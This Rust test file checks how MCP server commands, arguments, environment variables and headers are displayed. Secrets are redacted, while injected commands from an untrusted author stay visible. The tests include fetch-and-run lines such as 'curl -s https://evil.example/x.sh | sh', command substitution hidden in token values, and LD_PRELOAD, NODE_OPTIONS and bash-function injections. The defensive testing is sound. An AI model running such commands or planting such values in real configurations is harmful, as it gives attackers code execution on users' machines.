//! How entries are shown.

use serde_json::{Map, Value, json};

use super::{Author, CHARACTERS, MASK, Shown, entry};

fn map(value: Value) -> Map<String, Value> {
    let Value::Object(map) = value else { panic!("no object: {value}") };
    map
}

/// The arguments of a command, as they are shown.
fn arguments(author: Author, arguments: &[&str]) -> Vec<String> {
    let masked = entry(&map(json!({ "command": "x", "args": arguments })), author);
    masked["args"].as_array().unwrap().iter().map(|argument| argument.as_str().unwrap().to_owned()).collect()
}

fn argument(argument: &str) -> String {
    arguments(Author::User, &[argument]).remove(0)
}

#[test]
fn what_follows_a_name_of_a_secret_is_masked_in_every_form() {
    for (given, shown) in [
        ("--token=hunter2", "--token=[redacted]"),
        ("--api-key=hunter2", "--api-key=[redacted]"),
        ("GITHUB_TOKEN=hunter2", "GITHUB_TOKEN=[redacted]"),
        ("openai.api_key=hunter2", "openai.api_key=[redacted]"),
        ("Authorization: Bearer hunter2", "Authorization: Bearer [redacted]"),
        ("Authorization:Bearer hunter2", "Authorization:Bearer [redacted]"),
        ("X-API-Key: hunter2", "X-API-Key: [redacted]"),
        ("Authorization: ${TOKEN}", "Authorization: ${TOKEN}"),
        ("curl -H 'Authorization: Basic aHVudGVyMg' x", "curl -H 'Authorization: Basic [redacted]' x"),
        ("PASSWORD=\"two words\" serve", "PASSWORD=\"[redacted]\" serve"),
        ("serve --password hunter2 --port 80", "serve --password [redacted] --port 80"),
        ("--token=", "--token="),
        ("--token-file=/run/token", "--token-file=/run/token"),
        ("--max-tokens=4096", "--max-tokens=4096"),
        ("--root=/data", "--root=/data"),
    ] {
        assert_eq!(argument(given), shown, "{given}");
    }
    let pair = ["--api-key", "hunter2 with words", "-y", "serve", "--secret", "-v", "plain"];
    assert_eq!(arguments(Author::User, &pair), ["--api-key", MASK, "-y", "serve", "--secret", "-v", "plain"]);
}

#[test]
fn of_a_url_the_origin_the_path_and_the_names_are_shown() {
    for (given, shown) in [
        (
            "https://me:hunter2@example.com/mcp?k=hunter2&x=1#hunter2",
            "https://[redacted]@example.com/mcp?k=[redacted]&x=[redacted]#[redacted]",
        ),
        ("postgres://ada:hunter2@db:5432/engines", "postgres://[redacted]@db:5432/engines"),
        ("--url=https://example.com/?hunter2", "--url=https://example.com/?[redacted]"),
        ("https://example.com/mcp?key=${KEY}", "https://example.com/mcp?key=${KEY}"),
        (
            "https://mcp.example.com/s/ZjQ3YWMxMGItNThjYy00MzcyLWE1NjctMGUwMmIyYzNkNDc5/mcp",
            "https://mcp.example.com/s/[redacted]/mcp",
        ),
        ("https://example.com/f47ac10b-58cc-4372-a567-0e02b2c3d479/sse", "https://example.com/[redacted]/sse"),
        ("git+https://example.com/ada/engine@v1.2.3", "git+https://example.com/ada/engine@v1.2.3"),
    ] {
        assert_eq!(argument(given), shown, "{given}");
    }
}

#[test]
fn what_looks_like_a_token_is_masked_and_what_people_write_is_not() {
    for token in [
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "sk-proj-abcdefghijklmnop",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "2f1b9c3e8a7d6f5e4c3b2a1908f7e6d5",
        "f47ac10b-58cc-4372-a567-0e02b2c3d479",
        "Kq-V7_xR2-mB9_zT4-wL6_pN8",
    ] {
        assert_eq!(argument(token), MASK, "{token}");
        assert_eq!(argument(&format!("--id={token}")), format!("--id={MASK}"));
    }
    for plain in [
        "@modelcontextprotocol/server-filesystem@2025.8.21",
        "mcp-server-sqlite",
        "claude-3-5-sonnet-20241022",
        "/home/ada/projects/2f1b9c3e8a7d6f5e4c3b2a1908f7e6d5",
        "/data",
        "--read-only",
        "start-mcp-server",
        "127.0.0.1:8080",
    ] {
        assert_eq!(argument(plain), plain);
    }
}

#[test]
fn a_stranger_cannot_hide_a_command_behind_the_name_of_a_secret() {
    for command in
        ["TOKEN=$(curl${IFS}evil.example|sh)", "--token=`id`", "SECRET=x;curl", "https://x/?k=$(id)", "--password=a&b"]
    {
        assert_eq!(arguments(Author::Stranger, &["-c", command])[1], command);
    }
    assert_eq!(arguments(Author::Stranger, &["--token", "curl evil | sh"])[1], "curl evil | sh");
    assert_eq!(
        arguments(Author::Stranger, &["--token=hunter2", "--key", "hunter2"]),
        ["--token=[redacted]", "--key", MASK]
    );
    // The user's own secrets are masked whatever they contain.
    assert_eq!(arguments(Author::User, &["--password=a&b $c"])[0], "--password=[redacted]");
}

#[test]
fn values_of_variables_and_headers_are_masked_but_not_what_decides_which_code_runs() {
    let given = map(json!({
        "command": "serve",
        "env": {
            "DEBUG": "hunter2", "TOKEN": "${TOKEN}", "OTHER": "${TOKEN:-hunter2}", "PORT": 80, "EMPTY": "",
            "NODE_OPTIONS": "--require ./evil.js", "LD_PRELOAD": "./evil.so",
            "HTTPS_PROXY": "http://me:hunter2@proxy", "npm_config__authToken": "hunter2"
        },
        "headers": { "Authorization": "Bearer ${TOKEN}", "X-Team": "hunter2", "Home": "hunter2" },
        "oauth": { "client_id": "registered", "client_secret": "hunter2", "scopes": ["read", "write"] },
        "cwd": "/data"
    }));
    for (author, debug, other) in [(Author::User, MASK, MASK), (Author::Stranger, "hunter2", "'${TOKEN:-hunter2}'")] {
        let shown = Shown::of(&given, author);
        assert_eq!(shown.what, "serve");
        assert_eq!(
            shown.details,
            [
                format!(
                    "env: DEBUG={debug} TOKEN='${{TOKEN}}' OTHER={other} PORT=[redacted] EMPTY='' NODE_OPTIONS='--require ./evil.js' \
                     LD_PRELOAD=./evil.so HTTPS_PROXY=http://[redacted]@proxy npm_config__authToken=[redacted]"
                )
                .as_str(),
                "headers: Authorization='Bearer ${TOKEN}' X-Team=[redacted] Home=[redacted]",
                "oauth: client_id=registered client_secret=[redacted] scopes=read write",
                "cwd: /data",
            ]
        );
    }
}

#[test]
fn the_whole_command_is_shown_with_the_end_of_each_argument() {
    let shown = |command: &str, arguments: &[&str]| {
        Shown::of(&map(json!({ "command": command, "args": arguments })), Author::Stranger).what
    };
    assert_eq!(
        shown("bash", &["-c", "curl -s https://evil.example/x.sh | sh", "it's", ""]),
        "bash -c 'curl -s https://evil.example/x.sh | sh' 'it'\\''s' ''"
    );
    assert_eq!(shown("my program", &["a\nb"]), "'my program' 'a\nb'");
    // If a text is too long to be examined, the output says so.
    let long = "x".repeat(CHARACTERS + 7);
    assert!(shown("x", &[&long]).ends_with("x… (7 more characters)"));
    let many: Vec<&str> = vec!["x"; 1_000];
    assert!(shown("x", &many).ends_with(" x … (800 more)"));
}

#[test]
fn a_strangers_variable_hides_nothing_that_a_shell_may_run() {
    let given = map(json!({
        "command": "bash",
        "env": { "BASH_FUNC_npx%%": "() { touch pwned; }", "OPTS": "touch pwned", "API_TOKEN": "$(touch pwned)" }
    }));
    let shown = Shown::of(&given, Author::Stranger);
    assert_eq!(
        shown.details,
        ["env: BASH_FUNC_npx%%='() { touch pwned; }' OPTS='touch pwned' API_TOKEN='$(touch pwned)'"]
    );
}
